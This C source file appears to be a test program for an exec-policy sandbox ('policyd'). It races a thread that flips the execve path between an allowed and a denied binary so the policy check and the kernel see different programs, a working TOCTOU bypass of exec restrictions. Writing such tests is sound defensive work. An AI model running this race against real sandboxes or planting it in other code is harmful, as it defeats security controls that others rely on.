/* Attack: a second thread flips the exec's PATH between an allowed program
 * and a denied one while the main thread execs, so the path policyd reads
 * may not be the path the kernel runs. Usage:
 *   static_path_race ALLOWED DENIED ARG
 * execs ALLOWED or DENIED (whichever the kernel reads) with argv
 * [PATH, ARG]. Static: only the kernel backstop sees it. */
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static char path[4096];
static const char *a, *b;
static size_t la, lb;

static void *flip(void *p)
{
	(void)p;
	for (unsigned long i = 0;; i++) {
		if (i & 1)
			memcpy(path, b, lb + 1);
		else
			memcpy(path, a, la + 1);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 4)
		return 2;
	a = argv[1];
	b = argv[2];
	la = strlen(a);
	lb = strlen(b);
	if (la >= sizeof(path) || lb >= sizeof(path))
		return 2;
	memcpy(path, a, la + 1);
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	char *args[] = {path, argv[3], NULL};
	char *env[] = {NULL};
	usleep(1000);
	syscall(SYS_execve, path, args, env);
	printf("exec: refused errno=%d\n", errno);
	return 1;
}
